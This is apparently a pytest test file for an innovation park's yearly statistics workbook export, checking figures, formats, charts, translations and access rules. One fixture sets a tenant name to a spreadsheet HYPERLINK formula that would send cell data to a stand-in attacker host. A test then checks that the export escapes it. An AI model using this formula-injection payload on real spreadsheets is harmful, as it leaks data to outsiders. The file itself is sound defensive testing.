"""The yearly workbook, read back as the statistics office would check it."""

import re
from decimal import Decimal

import msgspec
import pytest
from openpyxl.utils import get_column_letter

from exports.statistics import statistics_workbook
from registry.actor import SYSTEM, Actor
from registry.answers import encode_hook
from registry.errors import Forbidden
from registry.money import in_unit
from registry.periods import Period
from registry.stats import FIGURES, park_stats
from registry.vocabulary import INDUSTRY, IP_KIND
from tests.conftest import make_tenant
from tests.exports.conftest import formulas, make_ip, make_report, open_workbook, sheet_xml

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&B5,"详情")'
SHEETS_ZH = ["概览", "按产业", "知识产权", "按期间", "企业明细", "目标监测", "说明"]
SHEETS_EN = ["Summary", "By industry", "IP", "By period", "Tenants", "Targets", "Notes"]


@pytest.fixture
async def park(empty_registry):
    """Three tenants on record at the end of 2016, one that left during it, one that came later."""
    annual = await make_tenant(
        industry="electronic_info", moved_in_on="2015-11-01", platform_level="national",
        hte_certificate_no="GR201643000001", hte_certified_on="2016-10-01",
    )  # fmt: skip
    halves = await make_tenant(industry="new_energy", moved_in_on="2016-05-01", platform_level="municipal",
                               name_en="Halves Co.")  # fmt: skip
    silent = await make_tenant(name=HOSTILE_NAME, industry="new_energy", moved_in_on="2016-02-01")
    gone = await make_tenant(moved_in_on="2015-12-01", moved_out_on="2016-06-30", status="left")
    later = await make_tenant(moved_in_on="2017-01-10")

    await make_report(annual["uscc"], "2015", revenue="800000.00", employees="40")
    await make_report(annual["uscc"], "2016", revenue="1000000.01", net_profit="-12345.67", employees="50",
                      rd_staff="12", new_graduates="3", tax_paid="80000.00", rd_expense="150000.00", exports="0")  # fmt: skip
    await make_report(halves["uscc"], "2016H1", revenue="300000.00", employees="10")
    await make_report(halves["uscc"], "2016Q3", revenue="100000.00", employees="11")
    await make_report(halves["uscc"], "2016Q4", revenue="150000.50", employees="12")
    await make_report(gone["uscc"], "2016", revenue="999.00")
    await make_report(later["uscc"], "2016", revenue="5.00")

    await make_ip(annual["uscc"], filed_on="2015-03-01", granted_on="2016-06-01")
    await make_ip(annual["uscc"], kind="software_copyright", number="2016SR000001", filed_on="2016-01-05",
                  granted_on="2016-02-01")  # fmt: skip
    await make_ip(halves["uscc"], kind="utility_model", filed_on="2016-07-01", granted_on=None,
                  status="pending")  # fmt: skip
    await make_ip(gone["uscc"])
    return {"annual": annual, "halves": halves, "silent": silent, "gone": gone, "later": later}


@pytest.fixture
async def workbook(park):
    content = await statistics_workbook(SYSTEM, 2016)
    stats = await park_stats(SYSTEM, Period(2016))
    return open_workbook(content), stats, content


def _table(sheet, header_row=4):
    rows = list(sheet.iter_rows(min_row=header_row, values_only=True))
    return list(rows[0]), [list(r) for r in rows[1:]]


def _k(json_yuan: str | None) -> Decimal | None:
    """The API's yuan string in 千元."""
    return None if json_yuan is None else Decimal(json_yuan) / 1000


def _num(value) -> Decimal | None:
    return None if value is None else Decimal(str(value))


async def test_sheets_are_named_in_chinese_by_default_and_in_english_on_request(park):
    assert open_workbook(await statistics_workbook(SYSTEM, 2016)).sheetnames == SHEETS_ZH
    assert open_workbook(await statistics_workbook(SYSTEM, 2016, "en")).sheetnames == SHEETS_EN


async def test_tenant_rows_are_exactly_the_tenants_on_record_at_year_end(workbook, park):
    book, _, _ = workbook
    header, rows = _table(book["企业明细"])
    tenant_rows, total = rows[:-1], rows[-1]
    on_record = {park[k]["uscc"] for k in ("annual", "halves", "silent")}
    assert {row[1] for row in tenant_rows} == on_record
    assert len(tenant_rows) == 3
    assert total[2] == "合计"
    assert [row[0] for row in tenant_rows] == [1, 2, 3]


async def test_torch_columns_hold_each_tenants_figures_in_whole_thousand_yuan(workbook, park):
    book, stats, _ = workbook
    header, rows = _table(book["企业明细"])
    column = {label: index for index, label in enumerate(header)}
    by_uscc = {row[1]: row for row in rows[:-1]}
    annual = by_uscc[park["annual"]["uscc"]]
    assert annual[column["营业收入(千元)"]] == 1000  # 1,000,000.01 yuan
    assert annual[column["净利润(千元)"]] == -12  # -12,345.67 yuan
    assert annual[column["从业人员(人)"]] == 50
    assert annual[column["是否高新技术企业"]] == "是" and annual[column["研发平台级别"]] == "国家级"
    assert annual[column["本年知识产权授权数(件)"]] == 2
    assert annual[column["其中：发明专利授权(件)"]] == 1
    assert annual[column["拥有有效知识产权数(件)"]] == 2
    assert annual[column["软件著作权(件)"]] == 1
    halves = by_uscc[park["halves"]["uscc"]]
    assert halves[column["营业收入(千元)"]] == 550  # 550,000.50 yuan
    assert halves[column["从业人员(人)"]] == 12
    assert halves[column["本年知识产权申请数(件)"]] == 1
    silent = by_uscc[park["silent"]["uscc"]]
    assert silent[column["是否报送"]] == "否"
    assert silent[column["营业收入(千元)"]] == silent[column["从业人员(人)"]] == "未报"


async def test_torch_total_rounds_the_exact_sum_of_the_api_figures(workbook):
    book, stats, _ = workbook
    api = msgspec.to_builtins(stats, enc_hook=encode_hook)  # as GET /stats answers it
    header, rows = _table(book["企业明细"])
    total = dict(zip(header, rows[-1], strict=True))
    for key, label in (("revenue", "营业收入"), ("net_profit", "净利润"), ("tax_paid", "实际上缴税费")):
        exact = _k(api["figures"][key]["value"])
        assert total[f"{label}(千元)"] == int(exact.quantize(Decimal(1), rounding="ROUND_HALF_UP"))
    assert total["营业收入(千元)"] == 1550
    assert total["从业人员(人)"] == api["figures"]["employees"]["value"] == 62
    assert total["拥有有效知识产权数(件)"] == api["ip"]["valid_at_end"] == 2
    assert total["本年知识产权申请数(件)"] == api["ip"]["filed"]


async def test_summary_figures_equal_the_api(workbook):
    book, stats, _ = workbook
    api = msgspec.to_builtins(stats, enc_hook=encode_hook)  # as GET /stats answers it
    rows = {r[0]: r for r in book["概览"].iter_rows(values_only=True) if r[0]}
    assert rows["期末在册企业"][2] == api["tenants"]["at_end"] == 3
    assert rows["本期入驻"][2] == api["tenants"]["moved_in"]
    assert rows["本期迁出（未毕业）"][2] == api["tenants"]["left"] == 1
    revenue = rows["营业收入"]
    assert revenue[1] == "千元"
    assert _num(revenue[2]) == _k(api["figures"]["revenue"]["value"]) == Decimal("1550.00051")
    assert _num(revenue[3]) == _k(api["figures"]["revenue"]["previous"]) == Decimal("800")
    assert _num(revenue[4]) == Decimal(api["figures"]["revenue"]["growth"])
    assert rows["已报送企业"][2] == api["reported"] == 2
    assert rows["期末有效知识产权"][2] == api["ip"]["valid_at_end"]
    assert rows["总收入"][2:4] == ("未报", "未报")  # nobody reported it: never a blank or a zero


async def test_half_year_and_quarter_columns_stand_beside_the_annual_one(workbook):
    book, stats, _ = workbook
    header, rows = _table(book["按期间"])
    assert header[2:] == ["2016", "2016H1", "2016H2", "2016Q1", "2016Q2", "2016Q3", "2016Q4"]
    by_label = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    revenue = by_label["营业收入"]
    assert _num(revenue["2016H1"]) == in_unit(stats.sub_periods["2016H1"].figures["revenue"], "千元") == Decimal(300)
    assert _num(revenue["2016Q4"]) == Decimal("150.0005")
    assert revenue["2016Q1"] == "未报"
    assert by_label["已报送企业"]["2016Q1"] == 0 and by_label["已报送企业"]["2016Q4"] == 1


async def test_who_has_not_reported_is_listed(workbook, park):
    book, _, _ = workbook
    rows = list(book["概览"].iter_rows(values_only=True))
    start = next(i for i, r in enumerate(rows) if r[0] == "五、未报送企业名单")
    assert rows[start + 2][:2] == (park["silent"]["uscc"], HOSTILE_NAME)


async def test_industry_and_ip_sheets_equal_the_stats(workbook):
    book, stats, _ = workbook
    header, rows = _table(book["按产业"])
    assert [r[0] for r in rows] == [c.zh for c in INDUSTRY.choices] + ["合计"]
    for row, line in zip(rows, stats.by_industry, strict=False):
        assert row[1] == line.tenants_at_end
        revenue = row[header.index("营业收入(千元)")]
        if not line.tenants_at_end:  # a group with no tenants has nothing to report: a dash, never 未报
            assert revenue == "—"
        elif line.figures["revenue"]:
            assert _num(revenue) == in_unit(line.figures["revenue"], "千元")
        else:
            assert revenue == "未报"
        assert row[-1] == line.ip_valid
    assert rows[-1][1] == stats.tenants.at_end
    header, rows = _table(book["知识产权"])
    assert [r[0] for r in rows] == [c.zh for c in IP_KIND.choices] + ["合计"]
    for row, kind in zip(rows, IP_KIND.codes, strict=False):
        counts = stats.ip_by_kind[kind]
        assert row[1:] == [counts.valid_at_end, counts.at_risk_at_end, counts.filed, counts.granted]
    assert rows[-1][1:] == [stats.ip.valid_at_end, stats.ip.at_risk_at_end, stats.ip.filed, stats.ip.granted]


async def test_targets_show_the_measurable_2020_targets(workbook):
    book, stats, _ = workbook
    header, rows = _table(book["目标监测"])
    national, share = rows[0], rows[1]
    assert national[2] == 40 and national[3] == stats.targets.national_platforms == 1 and national[4] == "否"
    assert _num(share[2]) == Decimal("0.6")
    assert _num(share[3]) == stats.targets.certified_platform_share == Decimal(1)
    assert share[4] == "是"


async def test_every_numeric_header_states_its_unit(workbook):
    book, _, _ = workbook
    units = ("(千元)", "(人)", "(件)", "(家)", "(%)", "单位")
    for title, text_columns in (("按产业", 1), ("知识产权", 1), ("企业明细", 13)):
        header, _ = _table(book[title])
        for label in header[text_columns:]:
            assert label.endswith(units), f"{title}: {label}"


async def test_number_formats_frozen_headers_filters_and_widths(workbook):
    book, _, _ = workbook
    tenants = book["企业明细"]
    header, rows = _table(tenants)
    revenue_column = header.index("营业收入(千元)") + 1
    assert tenants.cell(5, revenue_column).number_format == "#,##0"
    assert tenants.cell(5, header.index("从业人员(人)") + 1).number_format == "#,##0"
    assert tenants.cell(5, 4).is_date
    assert tenants.freeze_panes == "D5"
    assert tenants.auto_filter.ref == f"A4:{get_column_letter(len(header))}7"
    assert tenants.column_dimensions["C"].width >= 14
    for title in ("按产业", "知识产权", "目标监测"):
        assert book[title].freeze_panes == "B5" and book[title].auto_filter.ref.startswith("A4:")
    summary = book["概览"]
    growth = next(row for row in summary.iter_rows() if row[0].value == "营业收入")[4]
    assert growth.number_format == "0.0%"


async def test_title_block_names_park_period_time_and_source_in_plain_words(workbook):
    book, _, _ = workbook
    for sheet in book.worksheets:
        assert sheet["A1"].value == "动力谷自主创新园 2016年度统计"
        line = sheet["A2"].value
        assert line.startswith("统计期间：2016-01-01 至 2016-12-31") and "生成时间：" in line
        assert "数据来源：园区登记系统" in line
        assert not any(word in line for word in ("SQLite", "PostgreSQL", "/api/", ".sqlite")), line


async def test_summary_charts_sit_beside_its_tables_halves_and_quarters_apart(workbook):
    book, stats, content = workbook
    charts = book["概览"]._charts
    titles = [c.title.tx.rich.p[0].r[0].t for c in charts]
    assert titles == ["营业收入按产业（千元）", "期末有效知识产权按类型（件）", "营业收入按半年（千元）",
                      "营业收入按季度（千元）"]  # fmt: skip
    refs = [c.series[0].val.numRef.f for c in charts]
    revenue = get_column_letter(4 + FIGURES.index("revenue"))
    assert refs[0].startswith(f"'按产业'!${revenue}$5") and refs[1].startswith("'知识产权'!$B$5")
    assert refs[2] == "'按期间'!$D$10:$E$10" and refs[3] == "'按期间'!$F$10:$I$10"
    categories = [c.series[0].cat.strRef.f if c.series[0].cat.strRef else c.series[0].cat.numRef.f for c in charts[2:]]
    assert categories == ["'按期间'!$D$4:$E$4", "'按期间'!$F$4:$I$4"]
    # Under the title of each chart of the parts: how many of each part's tenants reported it.
    periods = book["按期间"]
    assert periods["A8"].value == "报送/在册企业"
    coverage = {periods[f"{c}4"].value: f"{periods[f'{c}7'].value}/{periods[f'{c}6'].value}" for c in "DEFGHI"}
    assert coverage == {part.period: f"{part.reported}/{part.tenants_at_end}" for part in stats.sub_periods.values()}
    notes = [chart.title.tx.rich.p[1].r[0].t for chart in charts[2:]]
    assert notes == [
        "报送/在册企业：" + "；".join(f"{p[4:]} {coverage[p]}" for p in ("2016H1", "2016H2")),
        "报送/在册企业：" + "；".join(f"{p[4:]} {coverage[p]}" for p in ("2016Q1", "2016Q2", "2016Q3", "2016Q4")),
    ]
    # Beside the summary's seven columns, in the first screen: columns I to V, rows 2 to 31.
    anchors = [(c.anchor._from.col, c.anchor._from.row) for c in charts]
    assert anchors == [(8, 1), (15, 1), (8, 16), (15, 16)]


async def test_user_text_is_never_a_formula(workbook):
    book, _, content = workbook
    assert formulas(book) == []
    names = [c for row in book["企业明细"].iter_rows(min_row=5) for c in row if c.value == HOSTILE_NAME]
    assert names and all(c.data_type == "s" and c.quotePrefix for c in names)
    assert "<f>" not in sheet_xml(content, "企业明细")


async def test_money_is_written_with_exact_digits(workbook):
    _, _, content = workbook
    xml = sheet_xml(content, "按产业")
    assert "<v>1000.00001</v>" in xml and "<v>-12.34567</v>" in xml and "<v>1550.00051</v>" in xml


async def test_english_workbook_is_in_english_with_english_tenant_names(park):
    book = open_workbook(await statistics_workbook(SYSTEM, 2016, "en"))
    header, rows = _table(book["Tenants"])
    assert "Revenue (k yuan)" in header
    assert book["Summary"]["A1"].value == "Power Valley Independent Innovation Park: statistics for 2016"
    assert [r[0] for r in _table(book["By industry"])[1]][:1] == [INDUSTRY.choices[0].en]
    names = {row[1]: row[2] for row in rows[:-1]}
    assert names[park["halves"]["uscc"]] == "Halves Co."  # its name_en
    assert names[park["annual"]["uscc"]] == park["annual"]["name"]  # no English name: the Chinese one
    silent = next(row for row in rows if row[1] == park["silent"]["uscc"])
    assert silent[header.index("Revenue (k yuan)")] == "not reported"
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row]
    texts = [c for c in cells if isinstance(c, str) and c not in {park[k]["name"] for k in park}]
    chinese = [t for t in texts if any("\u4e00" <= ch <= "\u9fff" for ch in t) and "动力谷" not in t]
    assert chinese == []


async def test_an_empty_year_still_renders(empty_registry):
    book = open_workbook(await statistics_workbook(SYSTEM, 1999))
    header, rows = _table(book["企业明细"])
    assert [r[2] for r in rows] == ["合计"]
    assert book.sheetnames == SHEETS_ZH


async def test_every_sheet_prints_landscape_a4_one_page_wide_with_header_rows_and_page_numbers(workbook):
    book, _, _ = workbook
    for sheet in book.worksheets:
        setup = sheet.page_setup
        assert (setup.orientation, int(setup.paperSize)) == ("landscape", 9), sheet.title
        if sheet.title != "企业明细":
            assert int(setup.fitToWidth) == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert sheet.print_title_rows, sheet.title
        assert sheet.oddHeader.center.text == sheet.title
        assert "2016" in sheet.oddHeader.right.text
        assert "&P" in sheet.oddFooter.center.text and "&N" in sheet.oddFooter.center.text
    # The wide Torch sheet repeats its group and header rows and the serial, USCC and name columns.
    assert book["企业明细"].print_title_rows == "$3:$4"
    assert book["企业明细"].print_title_cols == "$A:$C"
    # Its bands print whole: three pages across, broken between bands (identity and status | money and
    # people | IP), at the one scale that fits the widest.
    torch = book["企业明细"]
    assert not torch.sheet_properties.pageSetUpPr.fitToPage
    assert [brk.id for brk in torch.col_breaks.brk] == [13, 26]
    assert 45 <= int(torch.page_setup.scale) <= 100


_UNIT = re.compile(r"\s*\([^()]*\)$")
_PERIOD = re.compile(r"^\d{4}(H[12]|Q[1-4])?( |（|$)")


def _headings(book, indicator: str, uscc: str) -> set[str]:
    """Every column heading of every sheet but the notes, without its unit; period columns aside
    (the notes define them together)."""
    headings = set()
    for sheet in book.worksheets[:-1]:
        rows = list(sheet.iter_rows(values_only=True))
        header_rows = [row for row in rows if row and row[0] in (indicator, uscc)]
        if sheet is not book.worksheets[0]:  # the summary's tables have headers of their own
            header_rows.append(rows[3])
        for row in header_rows:
            headings |= {str(cell) for cell in row if cell is not None and not _PERIOD.match(str(cell))}
    return headings


def _defined(heading: str, defined: dict[str, str]) -> str | None:
    """The definition of a heading, given with or without its unit."""
    return defined.get(heading) or defined.get(_UNIT.sub("", heading))


@pytest.mark.parametrize(
    ("lang", "indicator", "uscc"), [("zh", "指标", "统一社会信用代码"), ("en", "Indicator", "USCC")]
)
async def test_every_column_of_every_sheet_is_defined_on_the_notes_sheet(park, lang, indicator, uscc):
    book = open_workbook(await statistics_workbook(SYSTEM, 2016, lang))
    notes = book.worksheets[-1]
    defined = {row[0]: row[2] for row in notes.iter_rows(min_row=5, values_only=True) if row[0]}
    headings = _headings(book, indicator, uscc)
    assert len(headings) > 40
    assert {heading for heading in headings if not _defined(heading, defined)} == set()
    if lang == "zh":
        for heading in ("创业者类型", "是否科技型中小企业", "上市/挂牌", "是否毕业企业", "是否报送", "同口径增长率"):
            assert heading in defined, heading


async def test_the_workbook_is_written_for_those_who_read_the_park_and_no_tenant(empty_registry):
    tenant = await make_tenant()
    statistician = Actor(username="office", role="statistician")
    assert open_workbook(await statistics_workbook(statistician, 1999)).sheetnames == SHEETS_ZH
    with pytest.raises(Forbidden):
        await statistics_workbook(Actor(username="t", role="tenant", tenant_uscc=tenant["uscc"]), 1999)
